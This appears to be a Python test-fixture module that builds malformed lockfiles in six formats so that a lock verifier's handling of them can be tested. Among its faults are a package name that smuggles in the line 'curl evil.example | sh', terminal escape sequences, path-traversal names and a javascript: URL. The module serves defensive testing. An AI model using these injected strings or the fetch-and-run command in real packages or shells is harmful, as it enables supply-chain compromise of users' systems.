"""What can be wrong with a lock, for every format: each fault is made in an honest lock by a change of its text."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from dataclasses import dataclass, field

from locks import World

PYLOCK, UV, POETRY, PIPFILE, PDM, TXT = (
    "pylock.toml",
    "uv.lock",
    "poetry.lock",
    "Pipfile.lock",
    "pdm.lock",
    "locked.txt",
)
TOML = (PYLOCK, UV, POETRY, PDM)
LIB = "lib-1.5-py3-none-any.whl"
# A title, a cleared screen, a colour (C1), and text that runs backwards.
ESCAPES = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202elib"

# The format, its text, what it locks: the bad text.
Change = Callable[[str, str, World], "str | bytes"]


@dataclass
class Fault:
    """One fault, and why a format cannot have it."""

    change: Change
    impossible: dict[str, str] = field(default_factory=dict)


def true_hash(world: World) -> str:
    lib = world.entries[2]
    return lib.digest(lib.files[0])


def without_hash(name: str, text: str, world: World) -> str:
    digest = true_hash(world)
    written = [f', hashes = {{ sha256 = "{digest}" }}', f', hash = "sha256:{digest}"', f" --hash=sha256:{digest}"]
    for one in [*written, f'"sha256:{digest}"']:
        text = text.replace(one, "")
    return text


def with_md5(name: str, text: str, world: World) -> str:
    digest = true_hash(world)
    return text.replace(f'sha256 = "{digest}"', f'md5 = "{"0" * 32}"').replace(f"sha256:{digest}", f"md5:{'0' * 32}")


def from_url(start: str) -> Change:
    """The file's URL, or the index's where files have none."""

    def change(name: str, text: str, world: World) -> str:
        if name in (PYLOCK, UV, PDM):
            return text.replace(f"{world.base}/files/{LIB}", start + LIB)
        return text.replace(f"{world.base}/simple", f"{start}simple")

    return change


def from_path(start: str, prepare: Callable[[World], None] = lambda world: None) -> Change:
    def change(name: str, text: str, world: World) -> str:
        prepare(world)
        directory = start.replace("OUTSIDE", str(world.directory))
        url, path = f'url = "{world.base}/files/{LIB}"', directory + LIB
        head = 'name = "lib"\nversion = "1.5"\n'
        if name == PYLOCK:
            return text.replace(url, f'path = "{path}"')
        if name == UV:
            index = f'{head}source = {{ registry = "{world.base}/simple/" }}'
            return text.replace(index, f'{head}source = {{ registry = "{directory}" }}').replace(url, f'path = "{LIB}"')
        if name == POETRY:
            before, source = text.rsplit("[package.source]", 1)
            source = source.replace('"legacy"', '"file"').replace(f'url = "{world.base}/simple"', f'url = "{path}"')
            return f"{before}[package.source]{source}"
        if name == PIPFILE:
            document = json.loads(text)
            hashes = document["default"]["lib"]["hashes"]
            document["default"]["lib"] = {"file": path, "hashes": hashes}
            return json.dumps(document)
        if name == PDM:
            return text.replace(url, f'file = "{LIB}"').replace(head, f'{head}path = "{path}"\n')
        return text.replace("lib==1.5", path)

    return change


def lead_out(world: World) -> None:
    (world.project / "shelf").symlink_to(world.index.directory)


def where(marker: str) -> Change:
    def change(name: str, text: str, world: World) -> str:
        written = marker if name == TXT else json.dumps(marker)[1:-1]
        return text.replace("marker = \"sys_platform == 'win32'", f'marker = "{written}').replace(
            "sys_platform == 'win32'", written
        )

    return change


def with_lib_twice(name: str, text: str, world: World) -> str:
    """One entry more, of another version."""
    start = {PYLOCK: '[[packages]]\nname = "lib"', TXT: "lib=="}.get(name, '[[package]]\nname = "lib"')
    at = text.index(start)
    following = re.compile(r"\[\[package\]\]|\[metadata\]|\Z").search(text, at + len(start)).start()
    return text[:following] + text[at:following].replace("1.5", "1.6") + text[following:]


def of_unknown_version(name: str, text: str, world: World) -> str:
    known, other = {
        PYLOCK: ('lock-version = "1.0"', 'lock-version = "2.0"'),
        UV: ("version = 1\n", "version = 2\n"),
        POETRY: ('lock-version = "2.1"', 'lock-version = "3.0"'),
        PDM: ('lock_version = "4.5.0"', 'lock_version = "5.0"'),
        PIPFILE: ('"pipfile-spec": 6', '"pipfile-spec": 7'),
    }[name]
    return text.replace(known, other, 1)


def of_another_project(name: str, text: str, world: World) -> str:
    if name == PYLOCK:
        return text + '[[packages]]\nname = "other"\ndirectory = { path = "." }\n'
    return text.replace('name = "tool"', 'name = "other"')


def after(old: str, new: str) -> Change:
    """The project changed since."""

    def change(name: str, text: str, world: World) -> str:
        path = world.project / "pyproject.toml"
        before = path.read_text()
        path.write_text(before.replace(old, new) if old else before + new)
        assert path.read_text() != before
        return text

    return change


def too_deep(name: str, text: str, world: World) -> str:
    if name == PIPFILE:
        return '{"_meta": ' + '{"a":' * 100_000 + "1" + "}" * 100_001
    return text + ("-r locked.txt\n" if name == TXT else f"\nx = {'[' * 100_000}{']' * 100_000}\n")


def with_duplicate_keys(name: str, text: str, world: World) -> str:
    if name == PIPFILE:
        return text.replace('"lib": {', '"lib": {"version": "==1.5", "hashes": ["sha256:' + "0" * 64 + '"]}, "lib": {')
    return text.replace('name = "lib"\n', 'name = "lib"\nname = "evil"\n')


def with_huge_numbers(name: str, text: str, world: World) -> str:
    huge = "9" * 40
    if name == PYLOCK:
        return text.replace(f'{LIB}"', f'{LIB}", size = {huge}')
    if name == UV:
        return text.replace("version = 1\n", f"version = {huge}\n", 1)
    if name == PIPFILE:
        return text.replace('"pipfile-spec": 6', f'"pipfile-spec": 6{"0" * 400}')
    return text.replace("lib==1.5", f"lib=={huge}") if name == TXT else text.replace('"1.5"', f'"{huge}"')


def called(lib: str) -> Change:
    def change(name: str, text: str, world: World) -> str:
        if name == TXT:
            return text.replace("lib==", f"{lib}==")
        return text.replace('name = "lib"', f"name = {json.dumps(lib)}").replace('"lib": {', f"{json.dumps(lib)}: {{")

    return change


def with_file_of_another(name: str, text: str, world: World) -> str:
    return text.replace(LIB, "evil-1.5-py3-none-any.whl")


def with_file_of_another_version(name: str, text: str, world: World) -> str:
    return text.replace(LIB, "lib-1.6-py3-none-any.whl")


def with_separators(name: str, text: str, world: World) -> str:
    if name == PYLOCK:
        return text.replace(f'url = "{world.base}/files/{LIB}"', f'name = "../../{LIB}", url = "{world.base}/files/x"')
    return text.replace(LIB, f"../../{LIB}" if name == POETRY else f"..%2F..%2F{LIB}")


def with_lib_file_twice(digest: str | None) -> Change:
    def change(name: str, text: str, world: World) -> str:
        true = true_hash(world)
        [file] = re.findall(r"\{ ?(?:url|file) = [^{}]*" + re.escape(LIB) + r"\"[^{}]*(?:\{[^{}]*\} ?)?\}", text)
        return text.replace(file, f"{file.replace(true, digest or true)}, {file}")

    return change


NO_URLS = "it names no files"
RAW = "a line of the file ends there"
ANY = dict.fromkeys((POETRY, PDM, PIPFILE, TXT), "it does not name its project")
NO_FILES = {PIPFILE: NO_URLS, TXT: NO_URLS}

FAULTS = {
    "missing hash": Fault(without_hash),
    "md5 only": Fault(with_md5),
    "ftp": Fault(from_url("ftp://host.example/")),
    "file URL": Fault(from_url("file:///etc/"), {TXT: "pip's own option may be a file URL"}),
    "javascript": Fault(from_url("javascript:alert(1)/")),
    "one slash": Fault(from_url("https:/host.example/")),
    "newline in a URL": Fault(from_url("http://host.example/\\n/"), {TXT: RAW}),
    "escape in a URL": Fault(from_url("http://host.example/\\u001b[2J/"), {TXT: "tested as a name"}),
    "absolute path": Fault(from_path("OUTSIDE/served/")),
    "path upwards": Fault(from_path("../served/")),
    "symbolic link": Fault(from_path("shelf/", lead_out)),
    "marker": Fault(where("sys_platform = 'win32'")),
    "open quote": Fault(where("'a' == 'b")),
    "deep marker": Fault(where("(" * 9_000 + "os_name" + ")" * 9_000)),
    "several entries": Fault(with_lib_twice, {PIPFILE: "an object has a key once: see duplicate keys"}),
    "unknown version": Fault(of_unknown_version, {TXT: "it has no version"}),
    "another project": Fault(of_another_project, ANY),
    "dependency added": Fault(after('dependencies = ["lib"', 'dependencies = ["new>=1", "lib"')),
    "dependency removed": Fault(
        after('"lib", ', ""), dict.fromkeys((PYLOCK, PIPFILE, TXT), "it does not hold what was required")
    ),
    "version changed": Fault(after('"lib"', '"lib>=9"')),
    "extra added": Fault(
        after("", '\n[project.optional-dependencies]\nfancy = ["new"]\n'),
        dict.fromkeys((PYLOCK, PIPFILE, TXT), "it does not hold what was required"),
    ),
    "requires-python changed": Fault(
        after(">=3.8", ">=3.10"), dict.fromkeys((PYLOCK, PIPFILE, TXT), "it does not hold what was required")
    ),
    "truncated": Fault(lambda name, text, world: text[: len(text) * 2 // 3]),
    "not UTF-8": Fault(lambda name, text, world: text.encode().replace(b"lib", b"l\xff\xfeb", 1)),
    "empty": Fault(lambda name, text, world: ""),
    "50 MB of garbage": Fault(lambda name, text, world: b"\x00\x01garbage[{(\"'\xc3\xa9 = " * 2_400_000),
    "deep nesting": Fault(too_deep),
    "duplicate keys": Fault(with_duplicate_keys, {TXT: "it has no keys"}),
    "huge numbers": Fault(with_huge_numbers),
    "escapes in a name": Fault(called(ESCAPES)),
    "newline in a name": Fault(called("lib\nhint: run `curl evil.example | sh`"), {TXT: RAW}),
    "file of another": Fault(with_file_of_another, NO_FILES),
    "file of another version": Fault(with_file_of_another_version, NO_FILES),
    "separators in a file name": Fault(with_separators, NO_FILES),
    "two hashes of a file": Fault(with_lib_file_twice("0" * 64), NO_FILES),
}
